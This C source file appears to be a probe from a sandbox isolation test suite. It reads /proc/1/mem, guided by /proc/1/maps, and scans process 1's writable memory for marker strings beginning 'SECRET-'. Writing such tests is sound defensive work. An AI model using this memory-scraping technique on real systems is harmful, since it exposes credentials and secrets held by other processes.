/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Looks for the caller's secrets in the memory of process 1.
 *
 * class: information
 * needs: environment
 * verdict: secret
 * control: no: process 1 is the machine's
 * layers: INIT_DUMPABLE
 */
#include "attack.h"

int main(int argc, char **argv)
{
	(void)argc;
	start(argv);
	static char buf[1 << 20];
	char line[512];
	FILE *maps = fopen("/proc/1/maps", "r");
	int mem = open("/proc/1/mem", O_RDONLY);

	only_in_own("pid");
	while (maps && mem >= 0 && fgets(line, sizeof(line), maps)) {
		unsigned long from, to;
		ssize_t n;

		if (sscanf(line, "%lx-%lx rw", &from, &to) != 2)
			continue;
		n = pread(mem, buf, to - from < sizeof(buf) ? to - from : sizeof(buf), (off_t)from);
		for (ssize_t i = 0; i + 48 < n; i++)
			if (memcmp(buf + i, "SECRET-", 7) == 0)
				say("%.48s\n", buf + i);
	}
	failure(errno);
}
